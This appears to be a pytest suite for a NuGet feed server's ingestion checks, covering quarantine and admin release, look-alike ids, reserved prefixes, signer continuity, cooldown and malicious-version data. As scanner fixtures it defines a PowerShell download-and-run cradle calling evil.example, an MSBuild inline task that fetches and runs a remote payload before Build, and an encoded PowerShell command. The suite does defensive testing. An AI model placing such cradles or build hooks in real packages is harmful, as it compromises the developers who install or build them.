"""Ingestion checks and quarantine (issue 16, points 2-5), on the in-process feed composed as `nuseal serve` composes
it (:func:`nuseal.feed.compose.build_feed`): pushes scanned and held, released and rejected by an admin (CLI and web
page), reserved prefixes, look-alike ids, signer continuity, cooldown on an injected clock, OSV malicious versions,
and upstream packages (the real nuget.org vectors) through ``Ingestion.ingest``."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from cryptography.hazmat.primitives import hashes

from nuseal.cli.admin import admin_group
from nuseal.client.gate import RepositorySignatureInfo
from nuseal.devpki import DevPki
from nuseal.feed.accounts.keys import Scope, create_api_key
from nuseal.feed.mirror.checks import UpstreamInfo
from nuseal.feed.store import audit
from nuseal.hashalg import HashAlgorithm
from nuseal.package import PackageArchive, append_signature
from nuseal.signature import PrimarySignature
from nuseal.signature.attributes import SignatureType
from nuseal.signature.builder import create_primary_signature
from nuseal.signing.signer import FileSigner
from support.clock import VECTOR_NOW

from .conftest import PgCluster, make_package, start_feed
from .ingest_support import IngestFeed, ingest_feed, nuget_org_info, sign_in
from .upstream_support import tampered, vector_files

#: A download-and-run cradle in an install script (scan rule NS1110, an error).
CRADLE = b"iex (New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1')\n"
#: An MSBuild inline task hooked before Build that downloads a payload and runs it from memory (NS2110, an error).
INLINE_TASK = b"""<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003">
  <UsingTask TaskName="Prepare" TaskFactory="RoslynCodeTaskFactory"
             AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">
    <Task>
      <Code Type="Fragment" Language="cs"><![CDATA[
        var http = new System.Net.Http.HttpClient();
        byte[] payload = http.GetByteArrayAsync("https://203.0.113.7/p.bin").Result;
        System.Reflection.Assembly.Load(payload).EntryPoint.Invoke(null, new object[] { new string[0] });
      ]]></Code>
    </Task>
  </UsingTask>
  <Target Name="PrepareSources" BeforeTargets="Build"><Prepare /></Target>
</Project>
"""


@pytest.fixture
def feed(tmp_path: Path) -> Iterator[IngestFeed]:
    yield from ingest_feed(tmp_path)


@pytest.fixture
def continuity_feed(tmp_path: Path) -> Iterator[IngestFeed]:
    """A feed that also checks signer continuity on pushes (``--push-signer-continuity``)."""
    yield from ingest_feed(tmp_path, push_signer_continuity=True)


def assert_invisible(feed: IngestFeed, package_id: str, version: str) -> None:
    assert version not in feed.versions(package_id)
    assert version not in feed.registration_versions(package_id)
    assert feed.nupkg(package_id, version).status_code == 404
    hits = feed.client.get("/v3/search", params={"q": package_id, "prerelease": "true"}).json()["data"]
    assert all(version not in [v["version"] for v in h["versions"]] for h in hits if h["id"] == package_id)
    v2 = feed.client.get("/api/v2/Search()", params={"searchTerm": f"'{package_id}'", "includePrerelease": "true"})
    assert v2.status_code == 200 and f"<d:Version>{version}</d:Version>" not in v2.text


# ------------------------------------------------------------------------------------------------ pushes held
def test_push_with_download_and_run_init_script_is_held_then_released(feed: IngestFeed) -> None:
    data = make_package("Contoso.Tools", "1.0.0", files={"tools/init.ps1": CRADLE})
    r = feed.push(data)
    assert r.status_code == 201
    assert "held in quarantine" in r.text and "NS1110" in r.headers["X-NuGet-Warning"]
    assert "x-nuseal-reason-phrase" not in r.headers
    assert_invisible(feed, "Contoso.Tools", "1.0.0")
    assert feed.client.get("/packages/Contoso.Tools").status_code == 404
    # the reason is named to an administrator's key only
    assert "X-NuSeal-Quarantine" not in feed.nupkg("Contoso.Tools", "1.0.0", key="alice").headers
    reason = feed.nupkg("Contoso.Tools", "1.0.0", key="root").headers["X-NuSeal-Quarantine"]
    assert reason.startswith("held: scan: NS1110")
    # the same version again: 409 while it is held
    assert feed.push(data).status_code == 409

    shown = feed.admin("quarantine", "show", "Contoso.Tools", "1.0.0")
    assert shown.exit_code == 0
    assert "NS1110 error tools/init.ps1:1" in shown.output
    assert "DownloadString('http://evil.example/stage2.ps1')" in shown.output
    listed = feed.admin("quarantine", "list", "--json")
    assert [(h["id"], h["state"], h["pushed_by"]) for h in json.loads(listed.output)] == [
        ("Contoso.Tools", "held", "alice")
    ]

    released = feed.admin("quarantine", "release", "Contoso.Tools", "1.0.0", "--as", "root", "--note", "reviewed")
    assert released.exit_code == 0, released.output
    assert feed.versions("Contoso.Tools") == ["1.0.0"]
    assert feed.registration_versions("Contoso.Tools") == ["1.0.0"]
    assert feed.nupkg("Contoso.Tools", "1.0.0").content == data
    assert feed.search_ids("Contoso.Tools") == ["Contoso.Tools"]
    page = feed.client.get("/packages/Contoso.Tools/1.0.0")
    assert page.status_code == 200
    assert "NS1110" in page.text and "Held, then released by an administrator" in page.text
    with feed.composed.service.db.read() as session:
        actions = [(a.actor, a.action) for a in audit.read_audit(session, target="package:contoso.tools/1.0.0")]
    assert ("alice", "quarantine.held") in actions and ("root", "quarantine.released") in actions
    assert feed.admin("quarantine", "list").output.strip() == "nothing in quarantine"


def test_msbuild_inline_task_is_held_and_rejected(feed: IngestFeed) -> None:
    data = make_package("Contoso.Build", "2.0.0", files={"build/Contoso.Build.targets": INLINE_TASK})
    r = feed.push(data)
    assert r.status_code == 201 and "NS2110" in r.text
    assert_invisible(feed, "Contoso.Build", "2.0.0")
    rejected = feed.admin("quarantine", "reject", "Contoso.Build", "2.0.0", "--as", "root")
    assert rejected.exit_code == 0
    assert_invisible(feed, "Contoso.Build", "2.0.0")
    assert not list((feed.data_dir / "quarantine").glob("contoso.build/*/*.nupkg"))
    states = json.loads(feed.admin("quarantine", "list", "--all", "--json").output)
    assert [(h["id"], h["state"], h["decided_by"]) for h in states] == [("Contoso.Build", "rejected", "root")]


def test_clean_push_records_its_checks_on_the_page(feed: IngestFeed) -> None:
    assert feed.push(make_package("Contoso.Clean", "1.0.0")).status_code == 201
    page = feed.client.get("/packages/Contoso.Clean/1.0.0").text
    for stage in ("identity", "scan", "known-bad"):
        assert f'data-stage="{stage}"' in page
    assert "Passed" in page


def test_pushes_keep_nuget_orgs_unsigned_after_signed_rule_without_push_continuity(
    feed: IngestFeed, dev_pki: DevPki
) -> None:
    """Without ``--push-signer-continuity`` a push is not held for its signer (issue 5's rules decide pushes)."""
    assert feed.push(author_signed(make_package("Plain.Signed", "1.0.0"), dev_pki, "author")).status_code == 201
    r = feed.push(make_package("Plain.Signed", "2.0.0"))
    assert r.status_code == 201 and "Published" in r.text
    assert feed.versions("Plain.Signed") == ["1.0.0", "2.0.0"]


def test_upstream_signer_change_and_lost_signature_are_held(tmp_path: Path, dev_pki: DevPki) -> None:
    for f in ingest_feed(tmp_path):
        info = UpstreamInfo("https://upstream.example/v3/index.json")
        paths = {}
        for version, signer in (("1.0.0", "author"), ("1.1.0", "author"), ("2.0.0", "repository"), ("3.0.0", None)):
            data = make_package("Upstream.Signed", version)
            paths[version] = tmp_path / f"u{version}.nupkg"
            paths[version].write_bytes(author_signed(data, dev_pki, signer) if signer else data)
        assert f.ingestion.ingest(paths["1.0.0"], info).accepted
        assert f.ingestion.ingest(paths["1.1.0"], info).accepted
        changed = f.ingestion.ingest(paths["2.0.0"], info)
        assert changed.held and "author signer changed" in changed.message
        evidence = changed.reasons[0].evidence
        assert evidence["signer"]["subject"] != evidence["accepted"][0]["subject"]
        lost = f.ingestion.ingest(paths["3.0.0"], info)
        assert lost.held and "not author-signed" in lost.message
        assert f.versions("Upstream.Signed") == ["1.0.0", "1.1.0"]
        listing = [(v, None) for v in ("1.0.0", "1.1.0", "2.0.0", "3.0.0")]
        assert f.ingestion.visible_versions("Upstream.Signed", listing) == ["1.0.0", "1.1.0"]


def test_block_rule_refuses_the_push(tmp_path: Path) -> None:
    for f in ingest_feed(tmp_path, block_rules=("NS11*",)):
        r = f.push(make_package("Contoso.Blocked", "1.0.0", files={"tools/init.ps1": CRADLE}))
        assert r.status_code == 400
        assert "NS1110" in r.text and "blocked" in r.text
        assert f.admin("quarantine", "list").output.strip() == "nothing in quarantine"


# ------------------------------------------------------------------------------------------------ id protection
def test_lookalike_of_a_popular_id_is_refused_naming_it(feed: IngestFeed) -> None:
    r = feed.push(make_package("Newtonsoft.Jsonn", "1.0.0"))
    assert r.status_code == 400
    assert "Newtonsoft.Json " in r.text or "Newtonsoft.Json (" in r.text
    assert feed.versions("Newtonsoft.Jsonn") == []


def test_lookalike_of_an_id_on_the_feed_is_refused_for_another_owner(feed: IngestFeed) -> None:
    assert feed.push(make_package("Fabrikam.Widgets", "1.0.0")).status_code == 201
    r = feed.push(make_package("Fabrikam.Widgetz", "1.0.0"), key="bob")
    assert r.status_code == 400 and "Fabrikam.Widgets" in r.text
    # its owner may name a sibling like that
    assert feed.push(make_package("Fabrikam.Widgetz", "1.0.0")).status_code == 201


def test_reserved_prefix_only_for_its_owner(feed: IngestFeed) -> None:
    result = feed.admin("reserve-prefix", "Contoso.", "alice", "--as", "root")
    assert result.exit_code == 0, result.output
    r = feed.push(make_package("Contoso.Payments", "1.0.0"), key="bob")
    assert r.status_code == 403 and "Contoso." in r.text and "reserved" in r.text
    assert feed.push(make_package("Contoso.Payments", "1.0.0")).status_code == 201
    page = feed.client.get("/packages/Contoso.Payments").text
    assert 'id="verified"' in page
    assert feed.push(make_package("Other.Payments", "1.0.0"), key="bob").status_code == 201
    assert 'id="verified"' not in feed.client.get("/packages/Other.Payments").text


# ------------------------------------------------------------------------------------------------ signer continuity
@pytest.fixture(scope="module")
def dev_pki(tmp_path_factory: pytest.TempPathFactory) -> DevPki:
    return DevPki.create(tmp_path_factory.mktemp("pki"))


def author_signed(data: bytes, pki: DevPki, name: str) -> bytes:
    """Author-signed (no timestamp) with dev-PKI certificate ``name``."""
    now = datetime.now(UTC)
    der = create_primary_signature(
        package_hash=HashAlgorithm.SHA256.digest(data),
        hash_algorithm=HashAlgorithm.SHA256,
        signer=FileSigner.from_pfx(pki.pfx_path(name), pki.pfx_password),
        signature_type=SignatureType.AUTHOR,
        signing_time=now,
        timestamper=None,
    )
    return append_signature(data, der, when=now)


def test_signer_change_is_held_with_both_identities_then_accepted(
    continuity_feed: IngestFeed, dev_pki: DevPki
) -> None:
    feed = continuity_feed
    pid = "Contoso.Signed"
    assert feed.push(author_signed(make_package(pid, "1.0.0"), dev_pki, "author")).status_code == 201
    r = feed.push(author_signed(make_package(pid, "2.0.0"), dev_pki, "repository"))
    assert r.status_code == 201 and "author signer changed" in r.text
    assert_invisible(feed, pid, "2.0.0")
    view = feed.ingestion.quarantine.get(pid, "2.0.0")
    evidence = view.reasons[0]["evidence"]
    assert evidence["signer"]["subject"] != evidence["accepted"][0]["subject"]
    assert evidence["signer"]["fingerprint"] != evidence["accepted"][0]["fingerprint"]
    shown = feed.admin("quarantine", "show", pid, "2.0.0").output
    assert "new signer:" in shown and "accepted:" in shown

    accepted = feed.admin("quarantine", "accept-signer", pid, "2.0.0", "--as", "root")
    assert accepted.exit_code == 0, accepted.output
    assert "released Contoso.Signed 2.0.0" in accepted.output
    assert feed.versions(pid) == ["1.0.0", "2.0.0"]
    # the next version by the new signer passes; losing the signature is held
    assert "held" not in feed.push(author_signed(make_package(pid, "3.0.0"), dev_pki, "repository")).text
    assert "3.0.0" in feed.versions(pid)
    r = feed.push(make_package(pid, "4.0.0"))
    assert r.status_code == 201 and "not author-signed" in r.text
    assert_invisible(feed, pid, "4.0.0")
    # the accepted certificate on a signature that does not verify (signed over other bytes) is not the signer
    forged_der = create_primary_signature(
        package_hash=HashAlgorithm.SHA256.digest(make_package(pid, "4.1.0", description="other bytes")),
        hash_algorithm=HashAlgorithm.SHA256,
        signer=FileSigner.from_pfx(dev_pki.pfx_path("repository"), dev_pki.pfx_password),
        signature_type=SignatureType.AUTHOR,
        signing_time=datetime.now(UTC),
        timestamper=None,
    )
    forged = append_signature(make_package(pid, "4.1.0"), forged_der, when=datetime.now(UTC))
    r = feed.push(forged)
    assert r.status_code == 201 and "does not verify" in r.text and "NU3008" in r.text
    assert_invisible(feed, pid, "4.1.0")
    # an owner accepts a new signer through the API; another user may not
    r = feed.push(author_signed(make_package(pid, "5.0.0"), dev_pki, "revoked-signer"))
    assert r.status_code == 201 and "author signer changed" in r.text
    url = f"/api/quarantine/{pid}/5.0.0/accept-signer"
    assert feed.client.post(url, headers={"X-NuGet-ApiKey": feed.keys["bob"]}).status_code == 403
    with feed.composed.service.db.write() as session:  # the owner's key scoped to pushing this id is not enough
        scoped = create_api_key(
            session, "alice", now=feed.clock(), scopes=frozenset({Scope.PUSH_VERSION}), globs=(pid,)
        ).key
    assert feed.client.post(url, headers={"X-NuGet-ApiKey": scoped}).status_code == 403
    assert "5.0.0" not in feed.versions(pid)
    r = feed.client.post(url, headers={"X-NuGet-ApiKey": feed.keys["alice"]})
    assert r.status_code == 200 and r.json()["released"] is True
    assert "5.0.0" in feed.versions(pid)
    with feed.composed.service.db.read() as session:
        rows = audit.read_audit(session, actions=["signer.accepted"])
    assert [(a.actor, a.target) for a in rows] == [
        ("root", "package:contoso.signed"),
        ("alice", "package:contoso.signed"),
    ]


# ------------------------------------------------------------------------------------------------ known bad
def _osv(folder: Path, package_id: str, version: str, *, malicious: bool) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    ident = "MAL-2026-0001" if malicious else "GHSA-aaaa-bbbb-cccc"
    record = {
        "id": ident,
        "modified": "2026-11-01T00:00:00Z",
        "summary": "Malicious code in " + package_id if malicious else "A vulnerability",
        "affected": [{"package": {"ecosystem": "NuGet", "name": package_id}, "versions": [version]}],
    }
    (folder / f"{ident}.json").write_text(json.dumps(record))
    return folder


def test_osv_malicious_version_is_refused_for_good(tmp_path: Path) -> None:
    osv = _osv(tmp_path / "osv", "Evil.Package", "1.0.0", malicious=True)
    for f in ingest_feed(tmp_path, osv_path=str(osv)):
        r = f.push(make_package("Evil.Package", "1.0.0"))
        assert r.status_code == 400 and "MAL-2026-0001" in r.text
        path = tmp_path / "evil.nupkg"
        path.write_bytes(make_package("Evil.Package", "1.0.0"))
        outcome = f.ingestion.ingest(path, UpstreamInfo("https://upstream.example/v3/index.json"))
        assert outcome.refused and "MAL-2026-0001" in outcome.message
        again = f.ingestion.ingest(path, UpstreamInfo("https://upstream.example/v3/index.json"))
        assert again.refused and again.results and again.results[0].stage == "known-bad"
        assert f.versions("Evil.Package") == []
        assert f.ingestion.visible_versions("Evil.Package", [("1.0.0", None), ("1.0.1", None)]) == ["1.0.1"]
        assert f.push(make_package("Evil.Package", "1.0.0")).status_code == 409


# ------------------------------------------------------------------------------------------------ cooldown
def test_cooldown_hides_young_upstream_versions_until_they_are_old_enough(tmp_path: Path) -> None:
    start = datetime(2026, 12, 1, tzinfo=UTC)
    for f in ingest_feed(tmp_path, now=start, min_release_age_seconds=3 * 86400):
        published_old, published_new = start - timedelta(days=10), start - timedelta(days=1)
        listing = [("1.0.0", published_old), ("1.1.0", published_new)]
        assert f.ingestion.visible_versions("Upstream.Lib", listing) == ["1.0.0"]
        assert f.ingestion.appears_at("Upstream.Lib", "1.1.0", published_new) == published_new + timedelta(days=3)
        path = tmp_path / "lib.nupkg"
        path.write_bytes(make_package("Upstream.Lib", "1.1.0"))
        outcome = f.ingestion.ingest(
            path, UpstreamInfo("https://upstream.example/v3/index.json", published=published_new)
        )
        assert outcome.held and outcome.release_at == published_new + timedelta(days=3)
        assert f.versions("Upstream.Lib") == []
        assert f.ingestion.quarantine.release_due() == []  # not yet
        f.clock.now = start + timedelta(days=2, hours=1)
        [done] = f.ingestion.quarantine.release_due()
        assert f.ingestion.visible_versions("Upstream.Lib", listing) == ["1.0.0", "1.1.0"]
        assert (done.id, done.version) == ("Upstream.Lib", "1.1.0")
        assert f.versions("Upstream.Lib") == ["1.1.0"]
        assert f.nupkg("Upstream.Lib", "1.1.0").content == path.read_bytes()
        page = f.client.get("/packages/Upstream.Lib/1.1.0").text
        assert "cooldown" in page and 'id="upstream-only"' in page
        assert f.push(make_package("Local.Pkg", "1.0.0")).status_code == 201
        local = f.client.get("/packages/Local.Pkg")
        assert local.status_code == 200 and 'id="upstream-only"' not in local.text


def test_cooldown_override_per_version(tmp_path: Path) -> None:
    start = datetime(2026, 12, 1, tzinfo=UTC)
    for f in ingest_feed(tmp_path, now=start, min_release_age_seconds=7 * 86400):
        young = start - timedelta(hours=1)
        path = tmp_path / "x.nupkg"
        path.write_bytes(make_package("Upstream.Fast", "2.0.0"))
        assert f.ingestion.ingest(path, UpstreamInfo("https://u.example/v3/index.json", published=young)).held
        out = f.admin("quarantine", "override-cooldown", "Upstream.Fast", "2.0.0", "--as", "root")
        assert out.exit_code == 0 and "released Upstream.Fast 2.0.0" in out.output
        assert f.versions("Upstream.Fast") == ["2.0.0"]
        assert f.ingestion.visible_versions("Upstream.Fast", [("2.0.0", young), ("2.1.0", young)]) == ["2.0.0"]


# ------------------------------------------------------------------------------------------------ upstream signatures
def test_upstream_vectors_accepted_byte_for_byte_and_tampered_refused(tmp_path: Path) -> None:
    for f in ingest_feed(tmp_path, now=VECTOR_NOW):
        info = UpstreamInfo("https://api.nuget.org/v3/index.json", nuget_org_info(), published=VECTOR_NOW)
        (key, path) = next((k, p) for k, p in sorted(vector_files().items()) if k[0] != "newtonsoft.json")
        outcome = f.ingestion.ingest(path, info)
        assert outcome.accepted, outcome.message
        assert f.nupkg(*key).content == path.read_bytes()
        with f.composed.service.db.read() as session:
            from nuseal.feed.store.models import Package  # noqa: PLC0415

            row = session.query(Package).filter_by(id_lower=key[0]).one()
            assert row.origin == "upstream"
        bad = tmp_path / "tampered.nupkg"
        other_key, other = next(
            (k, p) for k, p in sorted(vector_files().items()) if k[0] not in (key[0], "newtonsoft.json")
        )
        bad.write_bytes(tampered(other))
        refused = f.ingestion.ingest(bad, info)
        assert refused.refused and "NU3008" in refused.message
        assert f.versions(other_key[0]) == []
        # Newtonsoft.Json's repository countersignature is not by a certificate nuget.org lists
        newtonsoft = next(p for k, p in vector_files().items() if k[0] == "newtonsoft.json")
        assert f.ingestion.ingest(newtonsoft, info).refused


def test_unlisted_repository_certificate_refused_even_when_upstream_says_not_all_signed(tmp_path: Path) -> None:
    """NuGet's client only warns (NU3034, accept mode) when allRepositorySigned is false; the mirror refuses a
    repository signature by a certificate the upstream does not list whatever the flag."""
    listed = nuget_org_info()
    info = UpstreamInfo(
        "https://api.nuget.org/v3/index.json",
        RepositorySignatureInfo(False, listed.certificates),
        published=VECTOR_NOW,
    )
    for f in ingest_feed(tmp_path, now=VECTOR_NOW):
        newtonsoft = _vector("newtonsoft.json")
        outcome = f.ingestion.ingest(newtonsoft, info)
        assert outcome.refused, outcome.message
        assert "NU3034" in outcome.message and "does not list" in outcome.message
        # a package whose repository signature is nuget.org's still passes under the same resource
        (_, path) = next((k, p) for k, p in sorted(vector_files().items()) if k[0] != "newtonsoft.json")
        assert f.ingestion.ingest(path, info).accepted


def test_upstream_version_served_before_with_other_bytes_is_refused_not_accepted(tmp_path: Path) -> None:
    """A version this feed served before with other bytes (DATA/retired: a push a crash interrupted) is never
    replaced by an upstream's: ingestion refuses it instead of answering accepted for a version it cannot serve."""
    for f in ingest_feed(tmp_path, now=VECTOR_NOW):
        info = UpstreamInfo("https://api.nuget.org/v3/index.json", nuget_org_info(), published=VECTOR_NOW)
        (key, path) = next((k, p) for k, p in sorted(vector_files().items()) if k[0] != "newtonsoft.json")
        retired = f.composed.service.retired_dir / key[0] / key[1]
        retired.parent.mkdir(parents=True, exist_ok=True)
        from nuseal.feed.publish.upload import package_sha512  # noqa: PLC0415

        retired.write_text(package_sha512(b"other bytes"), encoding="ascii")
        outcome = f.ingestion.ingest(path, info)
        assert outcome.refused, outcome.message
        assert "other bytes" in outcome.message
        assert f.versions(key[0]) == []


def _vector(name: str) -> Path:
    return next(p for (i, _), p in vector_files().items() if i == name)


def _author_sha256(path: Path) -> str:
    primary = PrimarySignature.load(PackageArchive.from_bytes(path.read_bytes()).read_signature())
    assert primary.signer_certificate is not None
    return primary.signer_certificate.fingerprint(hashes.SHA256()).hex()


def test_author_policy_any_holds_a_package_without_an_author_signature(tmp_path: Path) -> None:
    for f in ingest_feed(tmp_path, now=VECTOR_NOW, author_policy="any"):
        info = UpstreamInfo("https://api.nuget.org/v3/index.json", nuget_org_info())
        assert f.ingestion.ingest(_vector("ilmerge"), info).accepted
        held = f.ingestion.ingest(_vector("nunittestadapter"), info)  # repository-signed only
        assert held.held and "needs an author signature" in held.message
        assert f.versions("NUnitTestAdapter") == []


def test_author_policy_allow_list(tmp_path: Path) -> None:
    microsoft = _author_sha256(_vector("system.security.principal.windows"))
    for f in ingest_feed(tmp_path, now=VECTOR_NOW, author_policy="allow-list", trusted_signers=(microsoft.upper(),)):
        info = UpstreamInfo("https://api.nuget.org/v3/index.json", nuget_org_info())
        assert f.ingestion.ingest(_vector("system.memory"), info).accepted  # the same Microsoft certificate
        held = f.ingestion.ingest(_vector("dockpanelsuite"), info)
        assert held.held and "is not a trusted signer" in held.message
        evidence = held.reasons[0].evidence
        assert evidence["signatures"][0]["kind"] == "author" and evidence["signatures"][0]["trusted"] is True
        assert evidence["signatures"][0]["sha256"] == _author_sha256(_vector("dockpanelsuite"))


# ------------------------------------------------------------------------------------------------ web page
def test_admin_page_shows_evidence_and_releases_with_csrf(feed: IngestFeed) -> None:
    assert feed.push(make_package("Contoso.Page", "1.0.0", files={"tools/install.ps1": CRADLE})).status_code == 201
    sign_in(feed, "bob")
    assert feed.client.get("/admin/quarantine").status_code == 403
    feed.client.cookies.clear()
    sign_in(feed, "root")
    page = feed.client.get("/admin/quarantine")
    assert page.status_code == 200
    assert "NS1110" in page.text and "DownloadString(&#39;http://evil.example/stage2.ps1&#39;)" in page.text
    assert "script-src" not in page.headers["content-security-policy"]
    assert "default-src 'none'" in page.headers["content-security-policy"]
    assert page.headers["x-frame-options"] == "DENY"
    # a form without the session's CSRF token changes nothing
    r = feed.client.post("/admin/quarantine/Contoso.Page/1.0.0/release", data={"csrf": "x" * 43})
    assert r.status_code == 403
    assert feed.versions("Contoso.Page") == []
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert csrf is not None
    r = feed.client.post("/admin/quarantine/Contoso.Page/1.0.0/release", data={"csrf": csrf.group(1), "note": "ok"})
    assert r.status_code == 200 and "Released Contoso.Page 1.0.0" in r.text
    assert feed.versions("Contoso.Page") == ["1.0.0"]


# ------------------------------------------------------------------------------------------------ server, PostgreSQL
@pytest.mark.slow  # a real nuseal serve
def test_real_server_holds_a_push_and_serves_it_after_a_cli_release(tmp_path: Path) -> None:
    """`nuseal serve` on loopback; the admin command releases into the running feed (another process)."""
    served = start_feed(tmp_path / "feed", "--hold-severity", "warning", "--block-rule", "NS1120")
    try:
        data = make_package("Contoso.Served", "1.0.0", files={"tools/init.ps1": CRADLE})
        r = served.push(data)
        assert r.status_code == 201 and "held in quarantine" in r.text
        script = (
            b"powershell.exe -EncodedCommand "
            b"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\n"
        )
        encoded = make_package("Contoso.Encoded", "1.0.0", files={"tools/init.ps1": script})
        r = served.push(encoded)
        assert r.status_code == 400 and "NS1120" in r.text
        with served.client() as c:
            assert c.get("/v3/flatcontainer/contoso.served/index.json").status_code == 404
        assert "released Contoso.Served 1.0.0" in served.admin("quarantine", "release", "Contoso.Served", "1.0.0")
        with served.client() as c:
            assert c.get("/v3/flatcontainer/contoso.served/index.json").json() == {"versions": ["1.0.0"]}
            assert c.get("/v3/flatcontainer/contoso.served/1.0.0/contoso.served.1.0.0.nupkg").content == data
    finally:
        served.stop()


@pytest.mark.postgres
def test_hold_and_release_on_postgres(tmp_path: Path, pg_cluster: PgCluster) -> None:
    for f in ingest_feed(tmp_path, database_url=pg_cluster.new_database()):
        data = make_package("Pg.Held", "1.0.0", files={"tools/init.ps1": CRADLE})
        assert f.push(data).status_code == 201
        assert f.push(data).status_code == 409
        assert_invisible(f, "Pg.Held", "1.0.0")
        assert f.admin("quarantine", "release", "Pg.Held", "1.0.0").exit_code == 0
        assert f.nupkg("Pg.Held", "1.0.0").content == data
        assert f.admin("reserve-prefix", "Pg.", "alice").exit_code == 0
        assert f.push(make_package("Pg.Other", "1.0.0"), key="bob").status_code == 403


@pytest.mark.slow  # a real nuseal serve
def test_signing_feed_holds_the_repository_signed_package_and_release_records_its_signature(tmp_path: Path) -> None:
    """With signing on, the held bytes are the repository-signed ones; the CLI release (composed from the stored
    signing configuration) publishes them and records the repository signature, as a push would."""
    from .signing_support import download, pki_feed_args, pki_feed_env, served_pki, start_signing_feed  # noqa: PLC0415

    pki_iter = served_pki(tmp_path / "pki")
    pki = next(pki_iter)
    try:
        served = start_signing_feed(tmp_path / "feed", *pki_feed_args(pki), env=pki_feed_env(pki))
        try:
            r = served.push(make_package("Signed.Held", "1.0.0", files={"tools/init.ps1": CRADLE}))
            assert r.status_code == 201 and "held in quarantine" in r.text
            held = next((served.data_dir / "quarantine").glob("signed.held/1.0.0/*.nupkg")).read_bytes()
            assert PackageArchive.from_bytes(held).is_signed  # repository-signed before it was held
            released = CliRunner().invoke(
                admin_group,
                ["quarantine", "release", "Signed.Held", "1.0.0", "--data", str(served.data_dir)],
                env=pki_feed_env(pki),
                catch_exceptions=False,
            )
            assert released.exit_code == 0, released.output
            assert download(served, "Signed.Held", "1.0.0") == held
            with served.client() as c:
                page = c.get("/packages/Signed.Held/1.0.0").text
                leaf = c.get("/v3/registration/signed.held/1.0.0.json")
            assert 'data-kind="repository"' in page
            assert leaf.status_code == 200
        finally:
            served.stop()
    finally:
        pki_iter.close()


def test_a_push_racing_a_hold_cannot_publish_the_held_version(feed: IngestFeed) -> None:
    """The quarantine is checked again inside the publish transaction, under the id's lock: a push of the same
    version that passed ``check_not_held`` just before the hold committed is refused there (409)."""
    from nuseal.feed.accounts.keys import authenticate  # noqa: PLC0415
    from nuseal.feed.errors import DuplicatePackageError  # noqa: PLC0415
    from nuseal.feed.publish.pipeline import DEFAULT_STAGES, PushPipeline  # noqa: PLC0415
    from nuseal.feed.publish.submission import Submission  # noqa: PLC0415
    from nuseal.feed.publish.upload import StagedUpload, package_sha512  # noqa: PLC0415

    assert feed.push(make_package("Race.Held", "1.0.0", files={"tools/init.ps1": CRADLE})).status_code == 201
    service = feed.composed.service
    clean = make_package("Race.Held", "1.0.0")
    staged = service.config.staging_dir / "race.nupkg"
    staged.write_bytes(clean)
    with service.db.read() as session:
        principal = authenticate(session, feed.keys["alice"], now=feed.clock())
    submission = Submission(StagedUpload(staged, len(clean), package_sha512(clean)), principal, feed.clock())
    with pytest.raises(DuplicatePackageError, match="held in quarantine"):
        PushPipeline(service, DEFAULT_STAGES).run(submission)  # without the pre-check, as in the race
    assert_invisible(feed, "Race.Held", "1.0.0")


def test_start_sweeps_quarantine_files_no_held_version_points_to(feed: IngestFeed) -> None:
    import os  # noqa: PLC0415

    assert feed.push(make_package("Sweep.Kept", "1.0.0", files={"tools/init.ps1": CRADLE})).status_code == 201
    kept = next((feed.data_dir / "quarantine").glob("sweep.kept/1.0.0/*.nupkg"))
    orphan = feed.data_dir / "quarantine" / "sweep.gone" / "1.0.0" / "left-by-a-crash.nupkg"
    orphan.parent.mkdir(parents=True)
    orphan.write_bytes(b"bytes of a release that committed before its file was removed")
    young = feed.data_dir / "quarantine" / "sweep.young" / "1.0.0" / "hold-committing.nupkg"
    young.parent.mkdir(parents=True)
    young.write_bytes(b"a hold whose row is committing right now")
    old = feed.clock().timestamp() - 2 * 3600
    for path in (kept, orphan):
        os.utime(path, (old, old))
    feed.composed.service.setup()  # a restart
    assert kept.exists() and young.exists()
    assert not orphan.exists() and not orphan.parent.exists()
    assert feed.admin("quarantine", "release", "Sweep.Kept", "1.0.0").exit_code == 0


def test_a_release_that_fails_leaves_the_version_held(feed: IngestFeed) -> None:
    """A held first push does not claim its id; if another user takes the id meanwhile, the release is refused by
    the publish step (403) and nothing changes: the version stays held with its bytes."""
    from nuseal.feed.errors import ForbiddenError  # noqa: PLC0415

    held = make_package("Taken.Meanwhile", "1.0.0", files={"tools/init.ps1": CRADLE})
    assert feed.push(held).status_code == 201
    assert feed.push(make_package("Taken.Meanwhile", "2.0.0"), key="bob").status_code == 201
    with pytest.raises(ForbiddenError, match="belongs to other owners"):
        feed.ingestion.quarantine.release("Taken.Meanwhile", "1.0.0", actor="root")
    view = feed.ingestion.quarantine.get("Taken.Meanwhile", "1.0.0")
    assert view is not None and view.state == "held"
    assert next((feed.data_dir / "quarantine").glob("taken.meanwhile/1.0.0/*.nupkg")).read_bytes() == held
    assert feed.versions("Taken.Meanwhile") == ["2.0.0"]
    assert list(feed.composed.config.staging_dir.iterdir()) == []


def test_upstream_lookalike_of_a_popular_id_is_held_naming_it(feed: IngestFeed, tmp_path: Path) -> None:
    path = tmp_path / "squat.nupkg"
    path.write_bytes(make_package("Newtonsoft.Jsonn", "13.0.1"))
    outcome = feed.ingestion.ingest(path, UpstreamInfo("https://upstream.example/v3/index.json"))
    assert outcome.held and "looks like Newtonsoft.Json" in outcome.message
    assert outcome.reasons[0].evidence["imitates"] == "Newtonsoft.Json"
    assert feed.versions("Newtonsoft.Jsonn") == []
    shown = feed.admin("quarantine", "show", "Newtonsoft.Jsonn", "13.0.1").output
    assert "imitates: Newtonsoft.Json (NS5003)" in shown
